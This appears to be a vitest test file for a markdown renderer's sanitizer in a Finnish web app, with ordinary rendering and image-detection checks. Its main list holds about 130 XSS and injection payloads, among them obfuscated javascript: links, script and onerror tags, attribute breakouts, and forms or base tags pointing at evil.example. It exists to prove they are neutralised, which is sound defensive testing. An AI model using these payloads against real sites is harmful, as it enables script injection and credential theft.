import { describe, expect, test } from 'vitest'
import { linkAddress } from '../../src/platform/link-address.ts'
import { hasImage, renderMarkdown } from '../../src/platform/markdown.ts'

const tags = 'p br h3 strong em del code pre blockquote ul ol li hr a div table thead tbody tr th td'.split(' ')
const attributes = [
  / href="(?:https?:\/\/|mailto:)[^"<>\s]*"/,
  / rel="nofollow noopener noreferrer"/,
  / class="table-scroll"/,
  / tabindex="0"/,
  / start="\d+"/,
]

/** Reads HTML as a browser's tokenizer does: every '<' must begin a tag of the list with attributes of the list. */
function faults(html: string): string[] {
  const found: string[] = []
  for (const piece of html.split('<').slice(1)) {
    const end = piece.indexOf('>')
    const tag = piece.slice(0, Math.max(0, end))
    const name = /^\/?([a-z0-9]+)/.exec(tag)?.[1] ?? ''
    let rest = tag.replace(/^\/?[a-z0-9]+/, '')
    for (const attribute of attributes) rest = rest.replace(attribute, '')
    if (end < 0 || !tags.includes(name) || rest !== '') found.push(`<${piece}`)
  }
  for (const link of html.matchAll(/<a [^>]*>/g)) {
    const address = /href="([^"]*)"/.exec(link[0])?.[1]?.replaceAll('&amp;', '&') ?? ''
    if (!['http:', 'https:', 'mailto:'].includes(new URL(address).protocol)) found.push(link[0])
    if (address.startsWith('http') && !link[0].includes('rel="nofollow noopener noreferrer"')) found.push(link[0])
  }
  if (/[\u202a-\u202e\u2066-\u2069]|[^\P{Cc}\t\n\r]/u.test(html)) found.push('a control character')
  return found
}

const attacks = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](&#0000106avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](&amp;#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<java\nscript:alert(1)>)',
  '[x](\tjavascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](\u0000javascript:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](java\u00adscript:alert(1))',
  '[x](\u200bjavascript:alert(1))',
  '[x](\ufeffjavascript:alert(1))',
  '[x](\u202ejavascript:alert(1))',
  '[x](ｊａｖａｓｃｒｉｐｔ：alert(1))',
  '[x](java\\script:alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](javascript:%61lert(1))',
  '[x](javascript://https://a.fi/%0aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](DATA:image/svg+xml,<svg onload=alert(1)>)',
  '[x](blob:https://a.fi/1)',
  '[x](file:///etc/passwd)',
  '[x](feed:javascript:alert(1))',
  '[x](view-source:javascript:alert(1))',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](http:evil.example)',
  '[x](https://kela.fi@evil.example/)',
  '[x](https://a.fi/" onmouseover="alert(1))',
  '[x](https://a.fi/&quot; onmouseover=alert(1))',
  '[x](https://a.fi/&quot;onmouseover=&quot;alert(1))',
  '[x](https://a.fi "t" onclick="alert(1)")',
  "[x](https://a.fi '\"><script>alert(1)</script>')",
  '[x](mailto:a@b.fi?subject=x%0d%0aBcc:all@b.fi)',
  '[x](mailto:javascript:alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x]\n\n[x]: <data:text/html,1> "t"',
  '[x][__proto__]\n\n[__proto__]: javascript:alert(1)',
  '[x][constructor]',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,x>',
  '<https://a.fi/"onclick="alert(1)>',
  '<a@b.fi"onclick=alert(1)>',
  'https://a.fi/"onclick="alert(1)',
  'https://a.fi/<script>alert(1)</script>',
  'www.a.fi"><script>alert(1)</script>',
  '[[x](https://a.fi)](javascript:alert(1))',
  '[x](https://a.fi/[y](javascript:alert(1)))',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '![x](javascript:alert(1))',
  '![x](https://a.fi/x.png "t" onerror="alert(1)")',
  '![x" onerror="alert(1)](https://a.fi/x.png)',
  '![<script>alert(1)</script>](https://a.fi/x.png)',
  '![x][y]\n\n[y]: https://a.fi/x.png',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)',
  '<math><mtext></table></math><img src onerror=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=//evil.example><input name=password>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a id=x name=y>x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<x-y hx-get="/poista" hx-trigger="load">x</x-y>',
  '<!-- --><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <p>x',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html>',
  '<',
  '</',
  '<a',
  '<a href="',
  '<a href="https://a.fi',
  '</p></div><script>alert(1)</script>',
  '</code></pre><script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '`` `</code><script>alert(1)</script>` ``',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```\n<img src=x onerror=alert(1)>',
  '    <script>alert(1)</script>',
  '# <script>alert(1)</script> {#id onclick=alert(1)}',
  '# x\n\n## <a name=y>\n\nz\n===',
  '| <script>alert(1)</script> |\n|:-:|\n| [x](javascript:alert(1)) |',
  '| a |\n|--|\n| `|<img src=x onerror=alert(1)>` |',
  '- [x] <input autofocus onfocus=alert(1)>',
  '- [x](javascript:alert(1))',
  '1" onclick="alert(1). x',
  '999999999. x',
  '> <blockquote cite="javascript:alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;',
  '\\<script>alert(1)\\</script>',
  '＜script＞alert(1)＜/script＞',
  '\u2028<script>alert(1)</script>\u2029',
  '\ud800<script>\udfff',
  'teksti \u202etxt.exe &#8238;x',
  '*<em onclick=alert(1)>*',
  '**<b** onclick=alert(1)>',
  '[x]: https://a.fi "<script>alert(1)</script>"\n\n[x]',
  '[^1]: <script>alert(1)</script>\n\n[^1]',
]

describe('only allowed tags, attributes and addresses come out of', () => {
  test.each(attacks)('%j', attack => {
    for (const source of [attack, `- ${attack}`, `> ${attack}`, `a ${attack} b`, `*${attack}*`, attack.repeat(3)]) {
      expect(faults(renderMarkdown(source))).toEqual([])
    }
  })

  test('any two attacks put together', () => {
    for (const first of attacks) {
      for (const second of attacks) expect(faults(renderMarkdown(first + second))).toEqual([])
    }
  })
})

describe('what people write', () => {
  test.each([
    ['rivi\ntoinen', '<p>rivi<br>toinen</p>\n'],
    [
      '**lihava** *kursiivi* ~~poistettu~~ `koodi`',
      '<p><strong>lihava</strong> <em>kursiivi</em> <del>poistettu</del> <code>koodi</code></p>\n',
    ],
    ['# Yksi', '<h3>Yksi</h3>\n'],
    ['###### Kuusi', '<h3>Kuusi</h3>\n'],
    ['Alle\n===', '<h3>Alle</h3>\n'],
    ['- [x] tehty\n- [ ] kesken', '<ul>\n<li>☑ tehty</li>\n<li>☐ kesken</li>\n</ul>\n'],
    ['3. kolmas', '<ol start="3">\n<li>kolmas</li>\n</ol>\n'],
    ['```js\nx < 1\n```', '<pre><code>x &lt; 1\n</code></pre>\n'],
    ['1 < 2 & "näin"', '<p>1 &lt; 2 &amp; &quot;näin&quot;</p>\n'],
    ['a&nbsp;b', '<p>a&nbsp;b</p>\n'],
    ['ennen ![Kaavio *A*](https://a.fi/x.png) jälkeen', '<p>ennen Kaavio A jälkeen</p>\n'],
    ['[oma](/kaytannot/1)', '<p>oma</p>\n'],
    ['[a](mailto:a@b.fi)', '<p><a href="mailto:a@b.fi">a</a></p>\n'],
    ['', ''],
  ])('%j', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  test('addresses become links without sending the referrer', () => {
    for (const source of [
      'https://kela.fi/?a=1&b=2',
      '<https://kela.fi/?a=1&b=2>',
      '[x](https://kela.fi/?a=1&amp;b=2)',
    ]) {
      expect(renderMarkdown(source)).toContain(
        '<a href="https://kela.fi/?a=1&amp;b=2" rel="nofollow noopener noreferrer">',
      )
    }
  })

  test('a wide table scrolls in its own box', () => {
    expect(renderMarkdown('| a | b |\n|:--|--:|\n| 1 | 2 |')).toBe(
      '<div class="table-scroll" tabindex="0"><table>\n<thead>\n<tr><th>a</th><th>b</th></tr>\n</thead>\n' +
        '<tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody>\n</table></div>\n',
    )
  })

  test('markdown inside HTML still works and the HTML shows as text', () => {
    expect(renderMarkdown('<div>\n**a**\n</div>')).toBe('<p>&lt;div&gt;<br><strong>a</strong><br>&lt;/div&gt;</p>\n')
  })

  test('one text leaves no trace in the next', () => {
    renderMarkdown('[x]: https://a.fi')
    expect(renderMarkdown('[x]')).toBe('<p>[x]</p>\n')
  })
})

describe('an image is noticed', () => {
  test.each([
    '![a](https://a.fi/x.png)',
    '![](x.png)',
    '![a][b]\n\n[b]: x.png',
    '![b]\n\n[b]: x.png',
    '[![a](x.png)](https://a.fi)',
    '- a\n  - > ![a](x.png)',
    '| a |\n|--|\n| ![a](x.png) |',
    '# ![a](x.png)',
    '<img src=x>',
    '<IMG/src=x>',
    'a <img\nsrc=x',
    '<div><p><img src="x"></p></div>',
  ])('in %j', source => {
    expect(hasImage(source)).toBe(true)
  })

  test.each([
    '`![a](x.png)`',
    '```\n<img src=x>\n```',
    'Hei! [a](https://a.fi)',
    '<imgx>',
    'img',
    '![a][puuttuu]',
    '',
  ])('not in %j', source => {
    expect(hasImage(source)).toBe(false)
  })
})

describe('long hostile texts neither fail nor take seconds', () => {
  const texts = [
    '>',
    '[',
    '![[',
    '- ',
    '`',
    '<a ',
    '_*',
    '[a](',
    '<!--',
    'www.',
    'a@',
    '\\',
    '&',
    '**a *b ',
    '1. ',
    '| a ',
  ]
  test.each(texts)('%j', text => {
    const source = text.repeat(20_000 / text.length)
    expect(faults(renderMarkdown(source))).toEqual([])
    hasImage(source)
  })
})

test('an address with other letters is still read when many have been (Node 20 forgets them once its code is hot)', () => {
  const refused = Array.from({ length: 60_000 }, () => linkAddress('https://Ääni.fi/ä')).filter(each => each === null)
  expect(refused).toEqual([])
})

test('an address is read as a browser reads it', () => {
  expect(linkAddress('HTTPS://Ääni.fi/ä?q=ö')).toBe('https://xn--ni-uiaa.fi/%C3%A4?q=%C3%B6')
  expect(linkAddress('https://')).toBeNull()
  expect(linkAddress('https:///a.fi')).toBeNull()
  expect(linkAddress('mailto:')).toBeNull()
  expect(linkAddress('kela.fi')).toBeNull()
})
